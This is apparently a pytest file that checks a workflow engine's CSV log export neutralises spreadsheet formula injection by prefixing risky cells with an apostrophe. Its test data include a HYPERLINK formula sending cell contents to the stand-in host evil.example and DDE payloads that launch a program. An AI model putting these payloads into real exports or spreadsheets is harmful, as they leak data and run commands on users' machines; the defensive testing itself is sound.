"""CSV export cells that a spreadsheet would run as formulas are text (OWASP "CSV Injection"):
names starting with `=`, `+`, `-`, `@`, tab or carriage return get a leading `'`."""

from __future__ import annotations

import csv
import html
import io

import pytest

from engine.export.csv_log import neutralise
from tests.conftest import read

HOSTILE = {
    "Kuvaa tarve": '=HYPERLINK("http://evil.example/?"&A1,"klikkaa")',
    "Valmistele käynti": "+cmd|' /C calc'!A0",
    "Rahoituspäätös": "-2+3",
    "Jälkihoito": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Anna palaute": "\tlisää",
}


@pytest.mark.parametrize(
    "cell, shown",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Kuvaa tarve", "Kuvaa tarve"),
        ("a=b", "a=b"),
        ("", ""),
        (42, 42),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_text(cell, shown):
    assert neutralise(cell) == shown


def test_the_exported_log_neutralises_hostile_names_and_users(kapula):
    name, content = read("three_lanes.bpmn")
    for plain, hostile in HOSTILE.items():
        attribute = html.escape(hostile, quote=True).replace("\t", "&#9;")
        content = content.replace(f'name="{plain}"'.encode(), f'name="{attribute}"'.encode())
    kapula.deploy([(name, content), read("tarve.json")])
    case = kapula.start_case("Handoff_demo", {"customer": "Oy"}, user="=cmd|' /C calc'!A0")
    kapula.complete_task(case.ready_tasks[0].id, {"need": "kasvu"}, user="@kayttaja")
    out = io.StringIO()
    kapula.export_log("Handoff_demo", "csv", out, real_names=True)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    activities = {r["activity"] for r in rows}
    assert "'" + HOSTILE["Kuvaa tarve"] in activities and "'" + HOSTILE["Valmistele käynti"] in activities
    assert {r["resource"] for r in rows} >= {"'@kayttaja"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
